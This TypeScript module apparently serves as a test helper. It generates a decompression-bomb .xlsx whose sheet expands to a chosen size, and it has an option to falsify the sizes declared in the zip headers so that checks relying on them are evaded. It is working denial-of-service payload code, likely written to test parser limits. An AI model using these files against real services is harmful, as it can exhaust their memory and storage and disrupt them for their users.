import { crc32, createDeflateRaw } from 'node:zlib';

// A spreadsheet bomb: a valid .xlsx whose one sheet unpacks to `sheetMb` MB of rows while the
// file itself stays near 1 MB per 300 MB. Deflate is fed 1 MB at a time, so making a 300 MB
// sheet never holds 300 MB.

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const PARTS: Record<string, string> = {
  '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
  '_rels/.rels': `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  'xl/_rels/workbook.xml.rels': `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
};

interface Part {
  name: string;
  data: Buffer;
  crc: number;
  size: number;
}

async function part(name: string, chunks: Iterable<Buffer>): Promise<Part> {
  let crc = 0;
  let size = 0;
  const deflate = createDeflateRaw({ level: 6 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  for (const c of chunks) {
    crc = crc32(c, crc);
    size += c.length;
    if (!deflate.write(c)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return { name, data: Buffer.concat(out), crc, size };
}

function* sheetChunks(sheetMb: number, columns: number): Generator<Buffer> {
  yield Buffer.from(`${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`);
  const letters = (i: number): string =>
    (i >= 26 ? letters(Math.floor(i / 26) - 1) : '') + String.fromCharCode(65 + (i % 26));
  const cols = Array.from({ length: columns }, (_, i) => letters(i));
  let r = 0;
  for (let i = 0; i < sheetMb; i++) {
    const rows: string[] = [];
    for (let size = 0; size < 2 ** 20; ) {
      r++;
      const row = `<row r="${r}">${cols.map((c, i) => `<c r="${c}${r}" t="inlineStr"><is><t>${i % 2 ? '张三' : '510121'}</t></is></c>`).join('')}</row>`;
      rows.push(row);
      size += row.length;
    }
    yield Buffer.from(rows.join(''));
  }
  yield Buffer.from('</sheetData></worksheet>');
}

function zip(parts: Part[], declare: (p: Part) => number = (p) => p.size): Buffer {
  const out: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(declare(p), 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(p.crc >>> 0, 16);
    dir.writeUInt32LE(p.data.length, 20);
    dir.writeUInt32LE(declare(p), 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    central.push(dir, name);
    out.push(local, name, p.data);
    offset += 30 + name.length + p.data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...out, cd, end]);
}

/**
 * An .xlsx whose sheet unpacks to `sheetMb` MB. `lie`: the directory declares every part 1 KB
 * (a bomb made to pass a check of declared sizes only).
 */
export async function xlsxBomb(sheetMb: number, opts: { columns?: number; lie?: boolean } = {}): Promise<Buffer> {
  const parts = await Promise.all(Object.entries(PARTS).map(([name, text]) => part(name, [Buffer.from(text)])));
  parts.push(await part('xl/worksheets/sheet1.xml', sheetChunks(sheetMb, opts.columns ?? 10)));
  return zip(parts, opts.lie ? (p) => Math.min(p.size, 1024) : undefined);
}
